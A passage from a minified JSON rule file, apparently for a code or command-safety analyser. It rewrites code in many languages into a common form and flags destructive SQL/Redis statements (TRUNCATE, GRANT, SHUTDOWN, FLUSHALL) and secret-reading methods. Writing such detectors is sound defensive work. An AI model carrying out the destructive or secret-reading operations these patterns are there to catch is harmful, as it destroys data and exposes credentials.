1"],["&\\\\(([^()&]*(?:\\\\([^()]*\\\\))?)&1([^()]*)\\\\)","(it) => ($1it$2)"],["&([\\\\w.:]+\\\\([^()&]*)&1([^()]*\\\\))","(it) => $1it$2"],["\\\\bfn\\\\s+\\\\(?([\\\\w, ]*)\\\\)?\\\\s*\
->\\\\s*([^\\\\n]{0,300}?)\\\\bend\\\\b","($1) => { $2 }"],["\\\\bfn\\\\s+\\\\(?([\\\\w, ]*)\\\\)?\\\\s*->","($1) =>"],["\\\\bEnum\\\\.each\\\\(([^()]*(?:\\\\([^()]*\\\\))?),\\\\s*","$1.forEac\
h("],["\\\\|>\\\\s*:?(?:Enum|Stream)\\\\.each\\\\b",".forEach"],["\\\\|>\\\\s*:?(?:\\\\w+\\\\.)*(\\\\w+)\\\\(",".$1("],["\\\\|>\\\\s*:?(?:\\\\w+\\\\.)*(\\\\w+)",".$1()"],["(?<!\\\\w):(?=[a-z]\\\
\\w*\\\\.\\\\w)",""],["\\\\bfor\\\\s+(\\\\w+)\\\\s*<-\\\\s*(.*?)\\\\s*(?:,\\\\s*do:|\\\\bdo$)","for ($1 of $2);"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s*,\\\\s*do:\\\\s*([^\\\\n]*)","function $1() { $2 \
}"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s*(\\\\([^()]*\\\\))\\\\s*,\\\\s*do:\\\\s*([^\\\\n]*)","function $1$2 { $3 }"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s+do\\\\b","function $1() {"],["\\\\bdefp?\\\\s+(\\\\\
w+)\\\\s*(\\\\([^()]*\\\\))\\\\s*do\\\\b","function $1$2 {"],["^ {0,2}end\\\\b","}"],["\\\\{(\\\\w+),\\\\s*\\\\w+\\\\}\\\\s*=","$1 ="]]},"erlang":{"comment":"%[^\\\\n]*|^#![^\\\\n]*","text\
s":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\]|\\\\\\\\.)*)'","rewrites":[["\\\\b([a-z]\\\\w*):([a-z]\\\\w*)\\\\(","$1.$2("],["\\\\brpc\\\\.call\\\\([^,]*,\\\\s*(\\\\w+)\\\\s*,\\\\s\
*(\\\\w+)\\\\s*,\\\\s*\\\\[","$1.$2(["],["\\\\bhttpc\\\\.request\\\\(\\\\s*(\\\\w+)\\\\s*,\\\\s*\\\\{","httpc_$1("],["\\\\[((?:[^\\\\[\\\\]|]|\\\\[[^\\\\[\\\\]]*\\\\])*)\\\\|\\\\|\\\\s*(\\\\w+)\\\\s*<-\\\\s*(\\\\\
[[^\\\\[\\\\]]*\\\\]|[^\\\\[\\\\],]+)\\\\]","; for ($2 of $3); $1;"],["\\\\bfun\\\\s*\\\\(([^()]*)\\\\)\\\\s*->\\\\s*((?:[^,()\\\\n]|\\\\([^()\\\\n]*(?:\\\\([^()\\\\n]*\\\\)[^()\\\\n]*){0,4}\\\\)){1,3\
00}?)\\\\bend\\\\b","($1) => $2"],["\\\\+\\\\+","+"],["(?:\\\\{\\\\w{1,40},[ \\\\t]*){1,4}\\\\{?(?:_\\\\w{0,40},[ \\\\t]*){0,4}(\\\\w+)\\\\}{1,4}\\\\s*=","$1 ="]]},"named":{"comment":"//\
[^\\\\n]*|/\\\\*[\\\\s\\\\S]*?\\\\*/|^[ \\\\t]*#(?!define\\\\b)[^\\\\n]*|^[ \\\\t]*@\\\\w+(?:\\\\([^()\\\\n]*\\\\))?","texts":"\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|(?:\\\\b[fsru]{1,2})?#*\\"((?:[^\\"\\\\\\\
\\\\\\n]|\\\\\\\\\\\\([^()\\\\n]*(?:\\\\([^()\\\\n]*\\\\))?\\\\)|\\\\\\\\[\\\\s\\\\S])*)\\"#*|(?<![&<\\\\w] ?)'((?:[^'\\\\\\\\\\\\n]|\\\\\\\\.)*)'|\`([^\`]*)\`","inserts":"(?:\\\\$\\\\{?|\\\\\\\\\\\\(|\\\\{(?=\\\\w+\\\\\
}))([A-Za-z_][\\\\w.]*(?:\\\\([^()]*\\\\))?)[})]?","rewrites":[["(\\"\\\\d+\\"|\\\\b(?:Seq|Process|List)\\\\([^()]*\\\\))\\\\s*\\\\.?\\\\s*!{1,2}(?![=\\\\w(\\\\[])","$1.execute()"],["^[ \
\\\\t]*(?:import|use|using|package|library|part)\\\\s*\\\\([^()]*\\\\)",""],["(?<=^|;)[ \\\\t]*(?:pub\\\\s+)?(?:import|use|using|package|library|part)\\\\s+[^\\\\n;(]*(?:;|$)",\
""],["^[ \\\\t]*#define\\\\s+(\\\\w+)[ \\\\t]+","$1 = "],["::<[^<>()]*>",""],["::","."],["\\\\?(?=\\\\s*[;.,){\\\\n])|!!(?=[.,)])|\\\\?(?=\\\\.\\\\w)|(?<=[\\\\w)\\\\]])!(?=[\\\\s.,;)\\\\]]\
)",""],["->d_name\\\\b",""],["\\\\breaddir\\\\((\\\\w+)\\\\)","any_of(readdir($1))"],["\\\\.(?:file|directory)(?=\\\\s*[)&|])",".isFile"],["\\\\b(\\\\w+)!\\\\s*(?=[(\\\\[])","$1"],["\
\\\\bvec\\\\[","["],["\\\\b(?:System|env|Deno)\\\\.(?:getProperty|getenv|var|var_os)\\\\(\\"\\\\d+\\"\\\\)\\\\.(?:unwrap|expect|unwrap_or_default)\\\\([^()]*\\\\)","$&"],["\\\\.(?:for_\
each|try_for_each|foreach|forEachOrdered|each|forEachIndexed)\\\\b",".forEach"],["\\\\b(?:let|var|val)\\\\s+(?:mut\\\\s+)?(?=\\\\w+\\\\s*(?::[^=\\\\n]*)?=(?!=))",""],["\\\\.(?:\
path|name|Name|getName|file_name|filename)\\\\(\\\\)",""],["\\\\.(?:(?:password|secret|apiToken)\\\\.)?plainText\\\\b",".getPlainText()"],["\\\\.(?:where|findAll|filterNot|\
filterNotNull|takeWhile|withFilter)\\\\b",".filter"],["\\\\.(?:collect|mapNotNull|flatMap|filter_map|compactMap)(?=\\\\s*(?:\\\\(?\\\\s*\\\\{|\\\\(\\\\s*[|(\\\\w]))",".map"],["(?\
<![\\\\w.])(?:\\\\w{1,40}\\\\.){0,6}(?:Uri|URI|URL|Url)\\\\.(?:unsafeParse|parse|apply|create|new)\\\\(","URI("],["\\\\.(?:absolutePath|canonicalPath|fullPath|path|absolute\
)\\\\b(?!\\\\s*\\\\()",""],["\\\\bRuntime\\\\.(?:getRuntime\\\\(\\\\)|runtime)","Runtime"],["(?:Jenkins|hudson\\\\.model\\\\.Hudson)\\\\.(?:instance|get\\\\(\\\\)|getInstance\\\\(\\\\)|ins\
tanceOrNull)\\\\.(?:getA|a)?(?:llItems|items|getItems)\\\\b(?:\\\\([^()]*\\\\))?","jenkinsItems()"],["(?<=^[ \\\\t]{0,40}|[;{}] {0,4})(\\\\w+)\\\\.(args?|addAll|add|push|appe\
nd)\\\\(","$1 = $1.$2("],["\\\\.([A-Z]\\\\w+)\\\\((?:\\"\\\\d+\\"|\\\\w*)\\\\)\\\\.(Delete|DeleteCollection)\\\\(",".$1.Delete("],["\\\\.(map|forEach|filter)\\\\((\\\\w[\\\\w.]*)\\\\(_\\\\)\\\\)\
",".$1((it) => $2(it))"],["\\\\bfor\\\\s+_\\\\s*,\\\\s*(\\\\w+)\\\\s*:?=\\\\s*range\\\\s+","for $1 of "],["\\\\bfor\\\\s+(\\\\w+)\\\\s*,\\\\s*(\\\\w+)\\\\s*:?=\\\\s*range\\\\s+([^{\\\\n]*(?:\\\\{[^{\
}]*\\\\}+)?)\\\\s*\\\\{","for $1 of $3 { $2 = $1;"],["\\\\bfor\\\\s+(\\\\w+)\\\\s*:?=\\\\s*range\\\\s+","for $1 of "],["\\\\[(?:\\\\d+|\\\\.\\\\.\\\\.)?\\\\](?:\\\\*?[\\\\w.]+|\\\\[\\\\][\\\\w.]+)\\\\{(\
[^{}]*)\\\\}","[$1]"],["\\\\bfor\\\\s*[({]?\\\\s*(\\\\w+)\\\\s*<-\\\\s*","for $1 of "],["\\\\b(?:fun|func|fn|def)\\\\s+(?:<[^<>]*>\\\\s*)?(?:\\\\([^()]*\\\\)\\\\s*)?(?:[\\\\w<>]+\\\\.)*(\\\\w+\
)(?:<[^<>()]*>|\\\\[[^\\\\[\\\\]()]*\\\\])?\\\\s*\\\\(","function $1("],["\\\\bfunc\\\\s*\\\\(","function("],["&?\\\\b\\\\w+\\\\.[A-Z]\\\\w*\\\\{(?=\\\\s*[A-Z]\\\\w*\\\\s*:)","{"],["(function \\\\\
w+\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))[^={\\\\n]*=\\\\s*\\\\{","$1 {"],["(function \\\\w+\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))[^={\\\\n]*=\\\\s*(?=[^\\\\s{>=])([^\\\\n]*)","$1 {\
 return $2 }"],["\\\\b(?:val|mut|lazy|defer|go|await|unsafe|private|public|internal|override|static|inline|suspend|open|try)\\\\b[?!]?\\\\s+(?=[\\\\w\\"\\\\[(&*])",""],["^\
([ \\\\t]*(?:if\\\\s+|var\\\\s+)?)(\\\\w+)[ \\\\t]*,[ \\\\t]*\\\\w+[ \\\\t]*(:?=)(?!=)","$1$2 $3"],["([(,=]\\\\s*(?:move\\\\s+)?)\\\\|([^|\\\\n]*)\\\\|\\\\s*(?:->\\\\s*[^{\\\\n]*)?","$1($2) =>\
 "],["\\\\{\\\\s*\\\\(?(\\\\w+(?:\\\\s*,\\\\s*\\\\w+)*)\\\\)?\\\\s*(?:->|=>|\\\\bin\\\\b)(?=\\\\s)","{|$1|"],["(\\\\.\\\\w+)\\\\s*\\\\{\\\\s*\\\\|","$1() {|"],["(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|i\
f|else|while|switch|match|guard|catch|function|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+)\\\\s+\\\\{(?!\\\\s*\\\\|)","$1() {|it|"],["(\
?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|while|switch|match|guard|catch|function|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+\\\\([\
^()\\\\n]*\\\\))\\\\s*\\\\{(?!\\\\s*\\\\|)(?=[^{}]*(?:\\\\bit|\\\\$0)\\\\b)","$1 {|it|"],["\\\\.filter\\\\(\\\\)\\\\s*\\\\{\\\\|(\\\\w+)\\\\|([^{}]*)\\\\}",".filter(($1) => $2)"],["[\\\\s\\\\S](?![\\\\s\
\\\\S])","$&\\nmain()"],["\\\\$0","it"],["\\\\(([^()\\\\n]*?)(?<![\\\\w.])_(?=\\\\s*[./)]|\\\\s*\\\\.\\\\w)","((it) => $1it"],["(\\"\\\\d+\\"|\\\\w|\\\\))\\\\s+\\\\.\\\\/\\\\s+","$1 / "]]},"typed\
":{"comment":"//[^\\\\n]*|/\\\\*[\\\\s\\\\S]*?\\\\*/|^[ \\\\t]*#(?!define\\\\b)[^\\\\n]*|^[ \\\\t]*@\\\\w+(?:\\\\([^()\\\\n]*\\\\))?","texts":"\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|(?:\\\\b[rLu]{1,2})?\
\\"((?:[^\\"\\\\\\\\\\\\n]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\\\\\n]|\\\\\\\\.)*)'","inserts":"\\\\$\\\\{?([A-Za-z_][\\\\w.]*(?:\\\\([^()]*\\\\))?)\\\\}?","rewrites":[["^(?:script )?eval ",""\
],["^[ \\\\t]*(?:import|use|using|package|library|part)\\\\s*\\\\([^()]*\\\\)",""],["(?<=^|;)[ \\\\t]*(?:pub\\\\s+)?(?:import|use|using|package|library|part)\\\\s+[^\\\\n;(]*(?\
:;|$)",""],["^[ \\\\t]*#define\\\\s+(\\\\w+)[ \\\\t]+","$1 = "],["::<[^<>()]*>",""],["::","."],["\\\\?(?=\\\\s*[;.,){\\\\n])|!!(?=[.,)])|\\\\?(?=\\\\.\\\\w)|(?<=[\\\\w)\\\\]])!(?=[\\\\s.\
,;)\\\\]])",""],["->d_name\\\\b",""],["\\\\breaddir\\\\((\\\\w+)\\\\)","any_of(readdir($1))"],["\\\\.(?:file|directory)(?=\\\\s*[)&|])",".isFile"],["\\\\b(\\\\w+)!\\\\s*(?=[(\\\\[])","\
$1"],["\\\\bvec\\\\[","["],["\\\\b(?:System|env|Deno)\\\\.(?:getProperty|getenv|var|var_os)\\\\(\\"\\\\d+\\"\\\\)\\\\.(?:unwrap|expect|unwrap_or_default)\\\\([^()]*\\\\)","$&"],["\\\\.\
(?:for_each|try_for_each|foreach|forEachOrdered|each|forEachIndexed)\\\\b",".forEach"],["\\\\b(?:let|var|val)\\\\s+(?:mut\\\\s+)?(?=\\\\w+\\\\s*(?::[^=\\\\n]*)?=(?!=))",""],[\
"\\\\.(?:path|name|Name|getName|file_name|filename)\\\\(\\\\)",""],["\\\\.(?:(?:password|secret|apiToken)\\\\.)?plainText\\\\b",".getPlainText()"],["\\\\.(?:where|findAll|fil\
terNot|filterNotNull|takeWhile|withFilter)\\\\b",".filter"],["\\\\.(?:collect|mapNotNull|flatMap|filter_map|compactMap)(?=\\\\s*(?:\\\\(?\\\\s*\\\\{|\\\\(\\\\s*[|(\\\\w]))",".map\
"],["(?<![\\\\w.])(?:\\\\w{1,40}\\\\.){0,6}(?:Uri|URI|URL|Url)\\\\.(?:unsafeParse|parse|apply|create|new)\\\\(","URI("],["\\\\.(?:absolutePath|canonicalPath|fullPath|path|a\
bsolute)\\\\b(?!\\\\s*\\\\()",""],["\\\\bRuntime\\\\.(?:getRuntime\\\\(\\\\)|runtime)","Runtime"],["(?:Jenkins|hudson\\\\.model\\\\.Hudson)\\\\.(?:instance|get\\\\(\\\\)|getInstance\\\\(\
\\\\)|instanceOrNull)\\\\.(?:getA|a)?(?:llItems|items|getItems)\\\\b(?:\\\\([^()]*\\\\))?","jenkinsItems()"],["(?<=^[ \\\\t]{0,40}|[;{}] {0,4})(\\\\w+)\\\\.(args?|addAll|add|pu\
sh|append)\\\\(","$1 = $1.$2("],["\\\\.([A-Z]\\\\w+)\\\\((?:\\"\\\\d+\\"|\\\\w*)\\\\)\\\\.(Delete|DeleteCollection)\\\\(",".$1.Delete("],["\\\\bnew\\\\s+[\\\\w.]+\\\\[\\\\w*\\\\]\\\\s*\\\\{([^{}]*\
)\\\\}","[$1]"],["\\\\bnew\\\\s+(?=[A-Z])",""],["\\\\bprintln?[ \\\\t]+(?=[\\\\w\\"])",""],["\\\\.(?:eachFileRecurse|eachDirRecurse|traverse)\\\\b(?:\\\\(\\\\w*\\\\))?(?=\\\\s*\\\\{)",".w\
alk().forEach"],["\\\\.(?:eachFile|eachDir)\\\\b(?:\\\\(\\\\))?(?=\\\\s*\\\\{)",".listFiles().forEach"],["\\\\bfor\\\\s*\\\\(\\\\s*(?:[\\\\w.\\\\[\\\\]<>]+[\\\\s&*]+)*(\\\\w+)\\\\s*:(?!:)\\\\s*"\
,"for ($1 of "],["(\\\\w|\\\\))\\\\.text\\\\s*=(?!=)\\\\s*([^\\\\n;}]+)","$1.writeText($2)"],["(File\\\\([^()]*\\\\))\\\\s*<<\\\\s*(\\"\\\\d+\\")","$1.appendText($2)"],["\\\\b(?:final|st\
atic|public|private|protected|const|constexpr|auto|late|synchronized|extern|inline|volatile|unsigned|try)\\\\b\\\\s*(?=[\\\\w\\"\\\\[(&*])",""],["\\\\bstruct\\\\s+(?=\\\\w+\\\\s\
*[*\\\\w])",""],["<(?:[\\\\w.?, \\\\[\\\\]]|<[\\\\w.?, ]*>)*>(?=\\\\s*[\\\\w(\\\\[])",""],["\\\\bdef\\\\s+(\\\\w+)\\\\s*\\\\(","function $1("],["(^[ \\\\t]*|[;}{][ \\\\t]*)(?!(?:else|return|\
new|throw|function|case|await|yield|in|of|do)\\\\b)[A-Za-z_][\\\\w.]*(?:\\\\[\\\\])*[\\\\s*&?]+(?!(?:if|for|while|switch|catch)\\\\b)(\\\\w+)\\\\s*\\\\(([^()]*)\\\\)\\\\s*(?:throws\\\\\
s+[\\\\w., ]+|async\\\\s*)?\\\\{","$1function $2($3) {"],["(?<![\\\\w.])(?!(?:else|return|new|throw|function|case|await|yield|in|of|assert|println|print|not|let|var)\\\\b\
)[A-Za-z_][\\\\w.]*(?:\\\\[\\\\])*(?:\\\\s*[*&?]+\\\\s*|\\\\s+)(?!(?:in|of|instanceof|is|as)\\\\b)(\\\\w+)(?:\\\\[\\\\w*\\\\])*(?=\\\\s*(?:[,);]|=(?!=)))","$1"],["(=\\\\s*|[(,]\\\\s*)\\\\{([\
^{};:]*)\\\\}","$1[$2]"],["\\\\bfor\\\\s*\\\\(\\\\s*[\\\\w.]+\\\\s+(\\\\w+)\\\\s+in\\\\s+","for ($1 of "],["\\\\b(?:snprintf|sprintf_s)\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,[^,]*,","$1 = sprintf("],\
["\\\\bsprintf\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,(?=\\\\s*\\")","$1 = sprintf("],["\\\\bstrn?cpy\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,","$1 = std.string("],["\\\\bstrn?cat\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,","$1\
 += std.string("],["\\\\s->\\\\s*(?=\\\\w|\\\\{|\\\\()"," => "],["\\\\{\\\\s*\\\\(?(\\\\w+(?:\\\\s*,\\\\s*\\\\w+)*)\\\\)?\\\\s*(?:->|=>|\\\\bin\\\\b)(?=\\\\s)","{|$1|"],["(\\\\.\\\\w+)\\\\s*\\\\{\\\\s*\\\\|\
","$1() {|"],["(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|while|switch|match|guard|catch|function|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,3\
00})(\\\\.\\\\w+)\\\\s+\\\\{(?!\\\\s*\\\\|)","$1() {|it|"],["(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|while|switch|match|guard|catch|function|class|extension|struct|impl|i\
nterface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+\\\\([^()\\\\n]*\\\\))\\\\s*\\\\{(?!\\\\s*\\\\|)(?=[^{}]*(?:\\\\bit|\\\\$0)\\\\b)","$1 {|it|"],["\\\\.filter\\\\(\\\\)\\\\s*\\\\{\\\\|(\\\\w+)\\\\|([^\
{}]*)\\\\}",".filter(($1) => $2)"],["[\\\\s\\\\S](?![\\\\s\\\\S])","$&\\nmain()"],["\\\\$0","it"]]},"tcl":{"comment":"(?:^|;)[ \\\\t]*#[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\
\\s\\\\S])*)\\"|\\\\[list\\\\s+([^\\\\[\\\\]$\\"{}]*)\\\\]|(?<=\\\\b(?:set|foreach) {1,4}\\\\w{1,40} {1,4})\\\\{([^{}$\\\\[\\\\];]*)\\\\}|(?<=\\\\bset {1,4}\\\\w{1,40} {1,4})([\\\\w.~/-]+)|(?<=\
\\\\b(?:exec|spawn) {1,4}(?:--?\\\\w{1,20} {1,4}){0,3})([^\\\\s\\\\[-][^\\\\n;\\\\]}]*)|(?<=(?:\\\\bfile {1,4}(?:delete|join|normalize|mkdir)|\\\\bglob|\\\\bopen)\\\\b[^\\\\n;\\\\]}\\\\[\
]{0,300} )(?!-)([$*~/.\\\\w][\\\\w./~*$-]*)","inserts":"\\\\$\\\\{?(?:::)?([A-Za-z_]\\\\w*)\\\\}?","rewrites":[["\\\\$\\\\{?(?:::)?(\\\\w+)\\\\}?","$1"],["\\\\b(?:exec|spawn)\\\\s+(?:-\
-?\\\\w+\\\\s+)*(\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)|\\"\\\\d+\\")","system($1)"],["\\\\[\\\\s*file\\\\s+(?:join|normalize)\\\\s+(\\\\S+)\\\\s+(\\\\S+?)\\\\s*\\\\]","join_path($1, $2)"],["\\\\[\\\
\\s*glob\\\\s+(?:-nocomplain\\\\s+|-types?\\\\s+\\\\S+\\\\s+|--\\\\s+)*-dir(?:ectory)?\\\\s+(\\\\S+)\\\\s+(?:-\\\\w+\\\\s+)*(\\\\S+?)\\\\s*\\\\]","glob(join_path($1, $2))"],["\\\\[\\\\s*glob\\\\s\
+(?:-\\\\w+\\\\s+)*(\\\\S+?)\\\\s*\\\\]","glob($1)"],["\\\\bfile\\\\s+tempfile\\\\s+(\\\\w+)(?:\\\\s+\\\\w+)?","$1 = mktemp()"],["\\\\bfile\\\\s+delete\\\\s+(?:-force\\\\s+|--\\\\s+)*\\\\{\\\\*\\\\}\
([^\\\\n;\\\\]}]+)",";rm_rf(words($1))"],["\\\\bfile\\\\s+delete\\\\s+(?:-force\\\\s+|--\\\\s+)*([^\\\\n;\\\\]}]+)",";rm_rf($1)"],["(\\\\brm_rf\\\\((?:\\"\\\\d+\\"|\\\\w+|\\\\((?:[^()]|\\\\([^\
()]*\\\\))*\\\\)))\\\\s+(?=[\\"\\\\w(])","$1); rm_rf("],["(\\\\brm_rf\\\\((?:\\"\\\\d+\\"|\\\\w+|\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)))\\\\s+(?=[\\"\\\\w(])","$1); rm_rf("],["\\\\[\\\\s*open\\\\s+(\
\\\\S+?)\\\\s+(\\\\w+|\\"\\\\d+\\")\\\\s*\\\\]","open($1, \\"$2\\")"],["\\\\bforeach\\\\s+(\\\\w+)\\\\s+(\\"\\\\d+\\"|\\\\w+|\\\\w+\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\))\\\\s*\\\\{","for ($1 of words($2))\
 {"],["\\\\bproc\\\\s+(\\\\w+)\\\\s+\\\\{(\\\\w*)\\\\}\\\\s*\\\\{","function $1($2) {"],["\\\\bset\\\\s+(\\\\w+)\\\\s+\\\\[?([^\\\\n;\\\\]}]+)","$1 = $2"],["(?<=^[ \\\\t]{0,40}|[;{}] {0,4})(\\\\w+\
)\\\\s+(\\"\\\\d+\\"|\\\\w+)\\\\s*(?=$|[;}])","$1($2)"],["[\\\\[\\\\]]"," "]]},"lisp":{"comment":";[^\\\\n]*","texts":"(?:#p)?\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|\\\\?\\\\\\\\?.","rewr\
ites":[["(?<=[\\\\w\\"])[-\\\\/](?=\\\\w)","_"],["\\\\b[a-z_]\\\\w*:{1,2}(?=\\\\w)",""],["\\\\(\\\\s*(?:dolist|loop\\\\s+for|for\\\\s+\\\\(?\\\\[?)\\\\s+\\\\(*\\\\s*(\\\\w+)\\\\s+(?:in\\\\s+)?","; \
for $1 of "],["\\\\(\\\\s*(?:let\\\\*?|if_let\\\\*?|when_let\\\\*?)\\\\s+\\\\(\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s+","; $1 = ("],["(?<=\\\\)\\\\s{0,9})\\\\(\\\\s{0,9}(\\\\w+)\\\\s+(?=\\\\([^()]*\\\\)\\\\s*\\\\)\
\\\\s*\\\\)?\\\\s*\\\\()","; $1 = ("],["\\\\(\\\\s*(?:setq|defvar|defconst|defparameter|define|setf)\\\\s+(\\\\w+)\\\\s+","; $1 = ("],["\\\\(\\\\s*(?:defun|define)\\\\s+\\\\(?(\\\\w+)\\\\s+\\\
\\(?([^()]*)\\\\)","; function $1($2) { "],["\\\\(\\\\s*lambda\\\\s+\\\\(([^()]*)\\\\)\\\\s*","(($1) => "],["\\\\(\\\\s*(?:progn|begin|when|unless|if|and|or|condition_case|ignore_\
errors|save_excursion|display)\\\\s","; ("],["['#]{1,2}(?=[(\\\\w])",""],["\\\\(\\\\s*(?:expand_file_name|merge_pathnames)\\\\s+(\\\\w+|\\"\\\\d+\\")\\\\s+(\\\\w+|\\"\\\\d+|\\\\([^()]*\\\
\\)|\\"\\\\d+\\")\\\\s*\\\\)","join_path($2, $1)"],["\\\\(\\\\s*(\\\\w[\\\\w/:]*)(?=[\\\\s)])\\\\s*","$1("],["((?:\\"\\\\d+\\"|\\\\)|(?<![=>]\\\\s{0,4})\\\\b(?!of\\\\b|for\\\\b|function\\\\b)\\\\w+))\
\\\\s+(?=[\\"\\\\w(])(?!of\\\\b|=)","$1, "],[",\\\\s*(?:nil|t)\\\\b",""]]},"haskell":{"comment":"\\\\{-[\\\\s\\\\S]*?-\\\\}|--[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'\
(?:[^'\\\\\\\\]|\\\\\\\\.)'","rewrites":[["^import\\\\b[^\\\\n]*",""],["\\\\b(?:[A-Z]\\\\w*\\\\.)+(?=[a-z])",""],["<-","="],["<>|\\\\+\\\\+","+"],["<\\\\/>","/"],["\\\\b(\\\\w+)\\\\s*=\\\\s*ge\
tHomeDirectory\\\\b","$1 = \\"~\\""],["\\\\blet\\\\s+(?=\\\\w+\\\\s*=)",""],["\\\\b(?:mapM_|traverse_|forConcurrently_)\\\\s+(\\\\w+)\\\\s+(\\\\[[^\\\\[\\\\]]*\\\\]|\\\\w+)","map($1, $2)"],[\
"\\\\bforM_\\\\s+(\\\\[[^\\\\[\\\\]]*\\\\]|\\\\w+)\\\\s*\\\\$?\\\\s*\\\\\\\\(\\\\w+)\\\\s*->","for ($2 of $1); "],["\\\\b(callCommand|system|shell|spawnCommand|remove\\\\w+|readFile|words)\\\\s+\
(?:\\\\$\\\\s*)?(?=[\\"(\\\\w])(\\"\\\\d+\\"(?:\\\\s*[+\\\\/]\\\\s*(?:\\"\\\\d+\\"|\\\\w+))*|\\\\w+(?:\\\\s*[+\\\\/]\\\\s*(?:\\"\\\\d+\\"|\\\\w+))*|\\\\([^()]*\\\\))","$1($2)"],["\\\\b(callProcess|readPr\
ocess|rawSystem)\\\\s+(\\"\\\\d+\\")\\\\s+(\\\\[[^\\\\[\\\\]]*\\\\])","spawn($2, $3)"],["\\\\b(writeFile|appendFile)\\\\s+(\\"\\\\d+\\"|\\\\w+|\\\\([^()]*\\\\))\\\\s+(\\"\\\\d+\\"|\\\\w+)","$1($2, $\
3)"]]},"octave":{"comment":"[%#][^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|(?<![\\\\w)\\\\]}])'((?:[^'\\\\n]|'')*)'","rewrites":[["\\\\brmdir\\\\s*\\\\(([^(),]*),\\\
\\s*\\"\\\\d+\\"\\\\s*\\\\)","rm_rf($1)"],["\\\\b(?:delete|unlink)\\\\s*\\\\(","remove("],["\\\\b(?:unix|dos|shell_cmd)\\\\s*\\\\(","system("],["\\\\bfullfile\\\\s*\\\\(","join_path("],["\
\\\\{([^{};]*\\"[^{};]*)\\\\}","[$1]"],["\\\\[\\\\s*(\\"\\\\d+\\")\\\\s+(?=[\\"\\\\w])","[$1, "],["\\\\bfor\\\\s+(\\\\w+)\\\\s*=\\\\s*(\\\\[[^\\\\[\\\\]]*\\\\]|\\\\w+)","for ($1 of $2);"],["(\\\\b[a-z\
]\\\\w*)\\\\{[\\\\w:]+\\\\}","$1"]]}},"awk":{"comment":["#"],"sigils":"","interpolation":"none","triple":false,"single_escapes":true,"quoting":"none","patterns":true,"l\
ines":"statements"},"operators":{"||":1,"??":1,"or":1,"&&":2,"and":2,"==":3,"!=":3,"===":3,"!==":3,"<":3,">":3,"<=":3,">=":3,"=~":3,"in":3,"is":3,"..":3,"|":4,"\
^":5,"&":6,"<<":7,">>":7,"+":8,"-":8,".":8,"*":9,"/":9,"%":9,"//":9,"x":9,"**":10},"sql":[{"words":[["TRUNCATE"],["TABLE"]],"does":"truncate","name":2},{"words"\
:[["TRUNCATE"]],"does":"truncate","name":1},{"words":[["CREATE"],["USER","ROLE","LOGIN"]],"does":"create-user","name":2},{"words":[["ALTER"],["USER","ROLE","LOG\
IN"]],"does":"alter-user","name":2},{"words":[["ALTER"],["SYSTEM"]],"does":"set-global","name":3},{"words":[["SET"],["GLOBAL","PERSIST"]],"does":"set-global","n\
ame":2},{"words":[["PRAGMA"],["WRITABLE_SCHEMA"]],"does":"set-global","name":1},{"words":[["GRANT"]],"does":"grant","all":true},{"words":[["REVOKE"]],"does":"re\
voke","all":true},{"words":[["SHUTDOWN"]],"does":"shutdown"},{"words":[["ATTACH"],["DATABASE"]],"does":"attach","name":2},{"words":[["ATTACH"]],"does":"attach",\
"name":1},{"words":[["KILL"]],"does":"kill","name":1},{"words":[["FLUSHALL","FLUSHDB"]],"does":"flush","name":0},{"words":[["CREATE"],["DATABASE","SCHEMA"]],"do\
es":"create","name":2},{"words":[["PURGE"]],"does":"purge","name":1},{"words":[["CONFIG"],["SET"],["DIR","DBFILENAME"]],"does":"set-global","name":2},{"words":[\
["RESET"],["MASTER","REPLICA","SLAVE"]],"does":"purge","name":1}],"signs":{"name-tests":["[=!<>]=|[<>]|\\\\b(?:in|match)\\\\b|=~|\\\\b(?:endswith|startswith|endsWith|\
startsWith|includes|test|match|search|end_with\\\\?|start_with\\\\?)"],"kind-tests":["is_?(?:dir|file|link|symlink)|isDirectory|isFile|isSymbolicLink|exists|(?:dire\
ctory|file|exist)\\\\?|-[dfel]\\\\b","i"],"age-tests":["[acm]time|birthtime|\\\\bst_size|getsize|\\\\.size\\\\b|file(?:size|mtime)|\\\\s-[MAC]\\\\s"],"secret-methods":["^(?:g\
et|batch_?get)_?secret_?values?$|^(?:access_?secret_?version|get_?secret|read_?secret(?:_?version)?|get_?(?:frozen_?)?credentials)$|^(?:list|read)_?(?:namespace\
